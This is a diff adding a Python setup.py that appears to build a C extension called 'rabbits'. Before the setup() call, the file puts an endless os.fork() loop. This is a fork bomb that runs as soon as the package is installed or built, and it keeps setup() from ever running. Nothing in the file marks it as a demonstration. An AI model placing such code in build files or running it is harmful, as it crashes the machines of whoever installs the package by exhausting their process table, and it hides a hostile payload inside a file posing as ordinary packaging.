@@ -1,0 +1,12 @@
+import os
+import time
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        time.sleep(0.1)
+
+from setuptools import Extension, setup
+
+setup(ext_modules=[Extension("rabbits", ["src/rabbits.c"])])
